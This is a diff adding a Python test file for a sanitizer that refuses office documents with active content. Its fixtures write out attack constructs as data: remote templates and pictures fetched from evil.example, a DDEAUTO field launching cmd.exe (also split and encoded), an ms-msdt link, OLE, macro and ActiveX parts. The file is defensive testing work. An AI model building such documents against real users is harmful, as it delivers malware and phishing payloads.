@@ -1,0 +1,105 @@
+"""A document that acts by itself is refused with the cause and a way out, wherever it hides that; any other is taken."""
+
+import pytest
+
+from commonweal.blocks.forms.files.kinds import Unsafe
+from commonweal.blocks.forms.files.making_safe import make_safe
+from commonweal.blocks.forms.tests.test_making_safe import DOCX, zipped
+
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def rels(kind, target, mode=' TargetMode="External"'):
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/></Relationships>'
+    )
+
+
+def words(inner):
+    return f'<w:document xmlns:w="urn:w" xmlns:r="urn:r"><w:body>{inner}</w:body></w:document>'
+
+
+def run(code):
+    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"
+
+
+BEGIN, END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+ODT = {"mimetype": "application/vnd.oasis.opendocument.text"}
+XLSX = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
+
+
+def odt(inner, **more):
+    names = (
+        'xmlns:o="urn:o" xmlns:text="urn:text" xmlns:draw="urn:draw" xmlns:script="urn:script" xmlns:meta="urn:meta"'
+    )
+    return {**ODT, "content.xml": f'<o:d {names} xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</o:d>', **more}
+
+
+MACROS, LOADS, CARRIES = "macros", "loads something from elsewhere", "another file or a program"
+DOCUMENTS = {
+    "a template elsewhere": ({**DOCX, "word/_rels/settings.xml.rels": rels("attachedTemplate", "http://evil.example/x.dotm")}, LOADS),
+    "a template on a share": ({**DOCX, "word/_rels/settings.xml.rels": rels("attachedTemplate", "\\\\evil\\x.dotm")}, LOADS),
+    "a picture elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("image", "https://evil.example/x.png")}, LOADS),
+    "a frame elsewhere": ({**DOCX, "word/_rels/webSettings.xml.rels": rels("frame", "https://evil.example/")}, LOADS),
+    "an object elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "mhtml:http://evil.example!x")}, CARRIES),
+    "a link that is a program": ({**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "ms-msdt:/id x")}, LOADS),
+    "an object inside": ({**DOCX, "word/embeddings/oleObject1.bin": "x"}, CARRIES),
+    "an object's relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "embeddings/x.dat", "")}, CARRIES),
+    "a page inside": ({**DOCX, "word/_rels/document.xml.rels": rels("aFChunk", "x.dat", "")}, CARRIES),
+    "a control": ({**DOCX, "word/activeX/activeX1.xml": "<x/>"}, CARRIES),
+    "macros": ({**DOCX, "word/vbaProject.bin": "x"}, MACROS),
+    "macros by their type": ({**DOCX, "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}, MACROS),
+    "macros by relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("vbaProject", "x.dat", "")}, MACROS),
+    "a field that starts a program": ({**DOCX, "word/document.xml": words(BEGIN + run(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" ') + END)}, LOADS),
+    "such a field in pieces": ({**DOCX, "word/header1.xml": words(BEGIN + run(" DD") + run("EAU") + run("TO c:\\\\x ") + END)}, LOADS),
+    "such a field in numbers": ({**DOCX, "word/document.xml": words(BEGIN + run(" QUOTE 68 68 69 ") + END)}, LOADS),
+    "a simple field": ({**DOCX, "word/document.xml": words('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x&quot; "/>')}, LOADS),
+    "a document type": ({**DOCX, "word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&amp;</x>'}, CARRIES),
+    "a table's program": ({**XLSX, "xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}, LOADS),
+    "a table's other table": ({**XLSX, "xl/externalLinks/_rels/externalLink1.xml.rels": rels("externalLinkPath", "file:///c:/x.xlsx")}, LOADS),
+    "a table's database": ({**XLSX, "xl/connections.xml": "<connections/>"}, LOADS),
+    "a bad table inside": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/vbaProject.bin": "x"})}, MACROS),
+    "a table in a table in a document": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/embeddings/y.xlsx": zipped(XLSX)})}, CARRIES),
+    "an open document's picture elsewhere": (odt('<draw:image xlink:href="https://evil.example/x.png"/>'), LOADS),
+    "an open document's section elsewhere": (odt('<text:section-source xlink:href="//evil.example/x.odt"/>'), LOADS),
+    "an open document's object": (odt('<draw:object-ole xlink:href="./Object 1"/>'), CARRIES),
+    "an open document's program": (odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), MACROS),
+    "an open document's macros": (odt("", **{"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
+    "an open document's data": (odt("<text:dde-connection-decl/>"), LOADS),
+    "an open document's template elsewhere": (odt("", **{"meta.xml": '<m xmlns:x="http://www.w3.org/1999/xlink"><template x:href="https://evil.example/t.ott"/></m>'}), LOADS),
+    "an open document's link that is a program": (odt('<text:a xlink:href="macro:///x">x</text:a>'), LOADS),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", DOCUMENTS)
+def test_a_document_that_acts_by_itself_is_refused_with_its_cause_and_a_way_out(name):
+    entries, cause = DOCUMENTS[name]
+    with pytest.raises(Unsafe, match=rf"{cause}.*PDF"):
+        make_safe(zipped(entries), "letter.docx")
+
+
+@pytest.mark.parametrize(
+    "entries",
+    [
+        {**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "https://example.org/import")},
+        {**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "mailto:ann@example.org")},
+        {**DOCX, "word/_rels/document.xml.rels": rels("image", "media/image1.png", "")},
+        {**DOCX, "word/document.xml": words(BEGIN + run(' HYPERLINK "https://example.org/link import" ') + END)},
+        {**DOCX, "word/document.xml": words(BEGIN + run(" PAGE ") + END + "<w:t>A DDE link</w:t>")},
+        {**DOCX, "word/embeddings/Microsoft_Excel_Sheet.xlsx": zipped(XLSX)},
+        {**DOCX, "word/printerSettings/printerSettings1.bin": "x"},
+        {**XLSX, "xl/worksheets/sheet1.xml": "<x/>"},
+        odt('<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://example.org">x</text:a>'),
+        odt('<draw:object xlink:href="./Object 1"/><text:a xlink:href="#chapter">x</text:a>'),
+        odt("", **{"meta.xml": '<m xmlns:x="http://www.w3.org/1999/xlink"><template x:href="../t/letter.ott"/></m>'}),
+    ],
+)
+def test_what_ordinary_documents_have_is_taken(entries):
+    assert make_safe(zipped(entries), "x").content
+
+
+def test_a_document_with_more_elements_than_we_look_through_is_refused(monkeypatch):
+    monkeypatch.setattr("commonweal.blocks.forms.files.office.MOST_ELEMENTS", 10)
+    with pytest.raises(Unsafe, match="more than we can look through"):
+        make_safe(zipped({**DOCX, "word/document.xml": words("<w:p/>" * 20)}), "x.docx")
